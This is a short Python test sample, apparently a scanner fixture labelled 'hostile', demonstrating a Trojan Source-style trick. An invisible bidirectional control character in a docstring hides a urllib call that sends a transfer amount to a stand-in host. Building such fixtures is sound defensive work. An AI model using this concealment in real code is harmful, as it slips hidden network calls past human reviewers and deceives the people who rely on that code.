# label: hostile
# expect: V005 V301
# note: A docstring that seems to end after a return, because its closing quotes are displayed elsewhere.
# obfuscated: yes
import urllib.request


def transfer(amount):
    '''Transfers the amount. ⁧''' ;urllib.request.urlopen(f"http://bank.example.invalid/?a={amount}")
    return amount


print(transfer(100))
